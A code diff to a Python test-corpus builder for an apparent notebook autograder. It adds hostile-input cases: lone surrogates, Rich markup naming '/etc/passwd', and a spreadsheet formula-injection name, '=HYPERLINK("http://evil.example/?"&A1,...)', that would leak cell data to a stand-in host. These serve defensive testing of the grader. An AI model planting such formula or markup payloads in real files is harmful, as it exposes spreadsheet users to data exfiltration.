@@ -128,20 +128,23 @@ class Case:
     flags: tuple[str, ...] = ()     # words of the flags column
     good: bool = False
     model: bool = False             # exports the honest model: acc points = 2 x measured accuracy
+    path: str | None = None         # the file, when not <name>_lab_07.ipynb at the top
+    own_group: bool = False         # keeps the group cell it builds (hostile members)
 
     @property
     def file(self) -> str:
-        return f"{self.name}_lab_{LAB_NUMBER:02d}.ipynb"
+        return self.path or f"{self.name}_lab_{LAB_NUMBER:02d}.ipynb"
 
 
 CASES: list[Case] = []
 
 
-def case(status: str, total: float, says=(), flags=(), good=False, model=False):
+def case(status: str, total: float, says=(), flags=(), good=False, model=False, path=None,
+         own_group=False):
     def deco(fn):
         name = fn.__name__.replace("_", "")
         CASES.append(Case(name, " ".join((fn.__doc__ or "").split()), fn, status, total,
-                          tuple(says), tuple(flags), good, model))
+                          tuple(says), tuple(flags), good, model, path, own_group))
         return fn
     return deco
 
@@ -526,6 +529,85 @@ def forged_config(ctx):
               "model.config = dict(model.config, kwargs={'hidden': 10**9})")
 
 
+# ---------------------------------------------------------------- text that misleads (issue 27)
+
+def _json(node: nbformat.NotebookNode) -> bytes:
+    """The notebook as JSON with every non-ASCII character escaped: a lone surrogate
+    (``\\ud800``) is valid JSON, which nbformat itself cannot write."""
+    return json.dumps(node).encode()
+
+
+@case("ok", 3, own_group=True)
+def surrogate_group(ctx):
+    """A lone surrogate in the group cell (a JSON "\\ud800"): once stopped the ingest of
+    the whole class; now read, stored, shown and run with U+FFFD in its place, the
+    answers graded."""
+    node = notebook("answer = 42", "ratio = 0.25")
+    node.cells[0].source = 'GROUP = ["Case Surrogate\ud800group"]'   # the character itself
+    return _json(node)
+
+
+@case("errors", 1, says=("cell 4",))
+def surrogate_answer(ctx):
+    """Lone surrogates in an answer string, printed output and an exception's message:
+    once crashed storing the evidence (and every rerun ran it again); now graded:
+    the text answer is not a whole number, ratio counts, the error is reported."""
+    return nb("surrogateanswer", 'answer = "4\\ud8002"', "ratio = 0.25",
+              'print("out \\ud800 [/] =1+1")', 'raise ValueError("bad \\udfff [/]")')
+
+
+@case("ok", 3, flags=("file name",), path="markup[bold]x[/]_lab_07.ipynb", own_group=True)
+def markup_name(ctx):
+    """Rich console markup in the file name and the group cell (`[/]`, `[link=...]`):
+    once crashed `grade` mid-batch and every later `rescore`; now printed as written."""
+    return notebook("answer = 42", "ratio = 0.25",
+                    name="Case [/]Markup [link=file:///etc/passwd]x[/link]")
+
+
+@case("ok", 3, own_group=True)
+def formula(ctx):
+    """Members that a spreadsheet would run (`=HYPERLINK(...)`, `@SUM`): written into
+    grades.csv as text (a leading '), never as a formula."""
+    return notebook("answer = 42", "ratio = 0.25",
+                    name='=HYPERLINK("http://evil.example/?"&A1,"Case Formula")')
+
+
+@case("ok", 3, path="one/twin_lab_07.ipynb")
+def twin_one(ctx):
+    """Two uploads of one file name in different folders: each keeps its own executed
+    notebook (executed/one/..., executed/two/...)."""
+    return nb("twinone", "print('I am twin one')\nanswer = 42", "ratio = 0.25")
+
+
+@case("ok", 2, path="two/twin_lab_07.ipynb")
+def twin_two(ctx):
+    """The other twin, with other answers and output."""
+    return nb("twintwo", "print('I am twin two')\nanswer = 42", "ratio = 0.5")
+
+
+@case("ok", 0, flags=("claims the same member",), own_group=True)
+def claims_mgood(ctx):
+    """A group cell naming the good group mgood's member: both are flagged; neither takes
+    the other's report name (mgood_lab_07.pdf goes to no one)."""
+    return notebook("answer = 0", name="Case Mgood")
+
+
+@case("ok", 3)
+def huge_figures(ctx):
+    """Twelve 4000x4000 16-bit PNGs: the report keeps what fits its pixel budget,
+    downscaled; the answers are graded."""
+    return nb("hugefigures", "answer = 42\nratio = 0.25", """
+        import io
+        import numpy as np
+        from PIL import Image
+        from IPython.display import Image as Shown, display
+        ramp = (np.add.outer(np.arange(4000), np.arange(4000)) * 8).astype(np.uint16)
+        buf = io.BytesIO()
+        Image.fromarray(ramp).save(buf, format="PNG")
+        for _ in range(12):
+            display(Shown(data=buf.getvalue(), format="png"))""")
+
+
 # ---------------------------------------------------------------- writing
 
 def write_corpus(ctx: Context) -> list[Case]:
@@ -537,7 +619,8 @@ def write_corpus(ctx: Context) -> list[Case]:
             _write_huge(path)
             continue
         content = c.build(ctx)
-        if isinstance(content, nbformat.NotebookNode):
+        path.parent.mkdir(parents=True, exist_ok=True)
+        if isinstance(content, nbformat.NotebookNode) and not c.own_group:
             for cell in content.cells:
                 if cell.metadata.get("grader", {}).get("group"):
                     cell.source = f"GROUP = ['Case {c.name.capitalize()}']"
